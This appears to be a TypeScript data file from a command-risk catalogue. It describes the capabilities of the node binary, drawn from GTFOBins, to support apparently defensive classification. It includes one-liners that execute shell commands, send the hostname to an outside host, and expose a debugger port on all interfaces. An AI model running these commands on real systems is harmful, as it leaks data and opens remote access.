import type { Program } from '../program.ts';

export default (): readonly Program[] => [
  {
    prefix: 'node',
    also: ['nodejs', 'node.exe'],
    powers: [
      { can: 'exec', words: `-e 'require("child_process").execSync("id")'`, purpose: true, seen: true },
      { can: 'network-out', words: `-e 'require("http").get("http://example.com/?"+require("os").hostname())'`, mild: true, seen: true },
      { can: 'network-in', words: `--inspect=0.0.0.0:9229 -e 'setTimeout(()=>{},1500)'`, mild: true, seen: true },
    ],
    safe: ['--check', '-c', '--test'],
    instead: ['node scripts/build.js', 'node --version'],
    source: ['gtfo:node'],
    confidence: 'high',
  },
  {
    prefix: 'node -e',
    also: ['node -p', 'node --eval'],
    powers: [{ can: 'exec', words: `'require("child_process").execSync("id")'`, purpose: true }],
    rather: ['node scripts/build.js'],
    source: ['gtfo:node'],
    confidence: 'medium',
  },
];
